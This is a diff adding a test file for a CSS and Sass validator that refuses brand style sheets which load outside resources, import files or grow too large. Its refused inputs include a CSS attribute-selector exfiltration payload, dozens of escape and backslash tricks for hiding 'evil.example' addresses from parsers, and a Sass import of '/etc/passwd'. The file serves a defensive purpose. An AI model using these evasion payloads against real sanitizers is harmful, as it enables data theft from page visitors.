@@ -1,0 +1,193 @@
+import { describe, expect, test } from 'vitest';
+import { readOwnStyles } from './own-styles.ts';
+
+const path = '/brands/cierzo/assets/estilos';
+const css = (text: string) => readOwnStyles(`${path}.css`, text);
+const scss = (text: string) => readOwnStyles(`${path}.scss`, text);
+const codes = (text: string, read = css) => read(text).mistakes.map(({ texts }) => texts.code);
+
+test('a style sheet names the files that it loads', () => {
+  const { styles, mistakes } = css('a { background: url(campus.jpg) } b { mask: url("icons/x.svg") }');
+  expect(mistakes).toEqual([]);
+  expect(styles?.dependencies.map(({ path: file }) => file)).toEqual([
+    '/brands/cierzo/assets/campus.jpg',
+    '/brands/cierzo/assets/icons/x.svg',
+  ]);
+  for (const { placeholder } of styles?.dependencies ?? [])
+    expect(styles?.css.split(placeholder)).toHaveLength(2);
+});
+
+test('a reference to an element of the page is no file', () => {
+  expect(css('a{mask:url("#m")}').styles).toEqual({ css: 'a{mask:url("#m")}', dependencies: [] });
+});
+
+test('Sass is compiled, with the modules of Sass itself', () => {
+  const text = '@use "sass:color";\n$c: #0b5563;\nnav { a { color: color.scale($c, $lightness: 100%); } }';
+  expect(scss(text).styles?.css).toBe('nav a{color:#fff}');
+});
+
+describe('a style sheet that loads something from elsewhere is refused', () => {
+  test.each([
+    'a{background:url(https://evil.example/x.png)}',
+    'a{background:url(//evil.example/x.png)}',
+    'a{background:url(/x.png)}',
+    'a{background:url(data:image/png;base64,AAAA)}',
+    'a{background:u\\72l(//evil.example/x)}',
+    'a{background:URL(https://evil.example/x)}',
+    'a{background:image-set("https://evil.example/x.png" 1x)}',
+    'a{background:-webkit-image-set(url(https://evil.example/x.png) 1x)}',
+    'a{background:cross-fade(url(//evil.example/x), url(b.png))}',
+    'a{cursor:url(https://evil.example/c.cur),auto}',
+    'a{filter:url(https://evil.example/f.svg#f)}',
+    'a{--x:url(https://evil.example/x)}',
+    'a{--x:"https://evil.example/x.png";background:image-set(var(--x) 1x)}',
+    'a{--x:image-set("https://evil.example/x.png" 1x)}',
+    'a{--x:"ht\\74ps:\\2f\\2f evil.example"}',
+    'a{content:image-set("https://evil.example/x.png" 1x)}',
+    'a{background:src("https://evil.example/x")}',
+    'a{background:image-set("//evil.example/x" 1x), var(--y)}',
+    '@property --x{syntax:"<string>";inherits:false;initial-value:"https://evil.example/x"}',
+    '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
+    '@media print{a{background:url(https://evil.example/x)}}',
+    '@supports (x:y){a{background:url(https://evil.example/x)}}',
+    'input[value^="a"]{background:url(https://evil.example/?a)}',
+    // What the parser of addresses takes for a slash, or drops.
+    String.raw`a{--x:"\\\\evil.example/x";background:image-set(var(--x) 1x)}`,
+    String.raw`a{--x:"/\\evil.example/x";background:image-set(var(--x) 1x)}`,
+    String.raw`a{--x:"\\/evil.example/x"}`,
+    String.raw`a{--x:"/\9/evil.example/x";background:image-set(var(--x) 1x)}`,
+    String.raw`a{--x:"/\a /evil.example/x"}`,
+    String.raw`a{--x:"\9//evil.example/x"}`,
+    String.raw`a{--x:"ht\a tps://evil.example/x";background:image-set(var(--x) 1x)}`,
+    String.raw`a{--x:"ht\d tps:evil.example/x"}`,
+    String.raw`a{--x:"\1 https://evil.example/x";background:image-set(var(--x) 1x)}`,
+    String.raw`a{--x:"\1f //evil.example/x"}`,
+    String.raw`a{--x:"https:evil.example/x"}`,
+    String.raw`a{--x:"https:\\evil.example/x"}`,
+    'a{--x:"//evil.example/x"}',
+    "a{--x:'//evil.example/x'}",
+    'a{--x:"/\t/evil.example/x"}',
+    'a{--x:"https:\\\n//evil.example/x"}',
+    'a{--x:"\u0001//evil.example/x"}',
+    'a{--x:{y:"//evil.example/x"}}',
+    'a{--x:[a "//evil.example/x"]}',
+    'a{--x:"data:image/svg+xml,x"}',
+    'a{--x:"blob:https://evil.example/x"}',
+    String.raw`@property --x{syntax:"*";inherits:false;initial-value:"\\\\evil.example/x"}`,
+    String.raw`@property --x{syntax:"*";inherits:false;initial-value:"/\9/evil.example/x"}`,
+    String.raw`a{background:src("/\\evil.example/x")}`,
+    String.raw`a{background:image-set("\1 //evil.example/x" 1x, var(--y))}`,
+    String.raw`a{background:url("/\9/evil.example/x")}`,
+    String.raw`a{background:url("\1 //evil.example/x")}`,
+    String.raw`a{background:url(\1 //evil.example/x)}`,
+    String.raw`a{content:image-set("\\\\evil.example/x" 1x, var(--y))}`,
+    String.raw`a{c\6fntent:x;--content:"//evil.example/x"}`,
+    '@tomorrow url(https://evil.example/x);',
+    '@tomorrow { a { background: "//evil.example/x" } }',
+  ])('%s', (text) => {
+    expect(codes(text)).toContain('style-leaves-brand');
+  });
+
+  test('through Sass too', () => {
+    expect(codes('$host: "https://evil.example";\na { background: url("#{$host}/x.png") }', scss)).toEqual([
+      'style-leaves-brand',
+    ]);
+  });
+});
+
+test.each([
+  'a[href^="https://"]::after{content:" (https://…)"}',
+  "a[href$='//x']{color:red}",
+  '@namespace svg url(http://www.w3.org/2000/svg);svg|a{color:red}',
+  'a{--x:"una nota";--y:"/ruta/x.png";quotes:"«" "»"}',
+])('an address that is only compared or shown loads nothing: %s', (text) => {
+  expect(codes(text)).toEqual([]);
+});
+
+test('an address is marked from its beginning to its end, whatever it is written with', () => {
+  const mistakes = css('a{color:red}\nb{--x: "\\2f/evil.example"}').mistakes;
+  expect(mistakes.map(({ inside }) => inside)).toMatchObject([{ line: 2, column: 9, endColumn: 25 }]);
+});
+
+describe('a style sheet that imports another one is refused', () => {
+  test.each(['@import "x.css";', '@import url(https://evil.example/x.css);', '@layer a{@import "x.css";}'])(
+    '%s',
+    (text) => {
+      expect(codes(text)).toEqual(['style-import']);
+    },
+  );
+
+  test.each([
+    '@use "other";',
+    '@import "other";',
+    '@forward "../../other/brand";',
+    '@use "file:///etc/passwd";',
+  ])('%s in Sass', (text) => {
+    expect(codes(text, scss)).toEqual(['style-import']);
+  });
+});
+
+describe('a mistake is marked where it is written', () => {
+  test.each([
+    ['in CSS', css, 'a { color: red; }\nb { color }\n', 2],
+    ['at a brace too many', css, 'a { color: red; }\nb { color: red; }}\nc { }\n', 2],
+    [
+      'at a brace that nobody closes',
+      css,
+      'a { content: "}"; } /* } */\nb { color: red;\nc { color: red; }\n',
+      2,
+    ],
+    ['in Sass that cannot be read', scss, 'a {\n  color: red;\n  color $x;\n}\n', 3],
+    [
+      'in CSS that Sass has made',
+      scss,
+      '$a: 1;\n// comment\nnav {\n  a {\n    background: url(https://evil.example/x);\n  }\n}\n',
+      5,
+    ],
+  ])('%s', (_name, read, text, line) => {
+    expect(read(text).mistakes.map(({ inside }) => inside.line)).toEqual([line]);
+  });
+});
+
+test('Sass that never ends is a mistake, not a crash', () => {
+  expect(codes('@function f($x) { @return f($x) }\na { b: f(1) }', scss)).toEqual(['invalid-style']);
+});
+
+test('a rule that is not known yet is only a warning', () => {
+  const { styles, mistakes } = css('@tomorrow x;\na{color:red}');
+  expect(mistakes.map(({ texts }) => texts.severity)).toEqual(['warning']);
+  expect(styles?.css).toContain('a{color:red}');
+});
+
+describe('brackets that are too deep for the parser are refused before it sees them', () => {
+  const deep = (open: string, close: string, inside = '') => open.repeat(101) + inside + close.repeat(101);
+  test.each([
+    ['parentheses', css, `a{width:calc${deep('(', ')', '1px')}}`, 1],
+    ['functions', css, `a{}\nb{width:${deep('calc(', ')', '1px')}}`, 2],
+    ['rules', css, deep('a{', '}'), 1],
+    ['square brackets', css, `a{grid:${deep('[', ']', 'x')}}`, 1],
+    ['what nobody closes', css, '('.repeat(20_000), 1],
+    ['rules in Sass', scss, deep('a{', '}', 'b:c'), 1],
+    [
+      'what Sass makes of little',
+      scss,
+      '@function f($n) { @if $n == 0 { @return "1px" } @return "calc(" + f($n - 1) + ")" }\na {\n  width: #{f(150)};\n}',
+      3,
+    ],
+  ])('%s', (_name, read, text, line) => {
+    expect(read(text).mistakes).toMatchObject([{ texts: { code: 'invalid-style' }, inside: { line } }]);
+  });
+
+  test('but not those in texts, comments and addresses', () => {
+    const many = '('.repeat(200);
+    expect(codes(`a{content:"${many}"}/*${many}*/b{background:url(${'['.repeat(200)})}`)).toEqual([]);
+    expect(codes(`a{width:${'calc('.repeat(100)}1px${')'.repeat(100)}}`)).toEqual(['invalid-style']);
+    expect(codes(`a{width:${'calc('.repeat(99)}1px${')'.repeat(99)}}`)).toEqual([]);
+  });
+});
+
+test('little Sass that becomes very much CSS is refused', () => {
+  const text = '@for $i from 1 through 5000 { .a#{$i} { color: red; width: #{$i}px } }';
+  expect(codes(text, scss)).toEqual(['file-too-large']);
+  expect(codes(text.replace('5000', '500'), scss)).toEqual([]);
+});
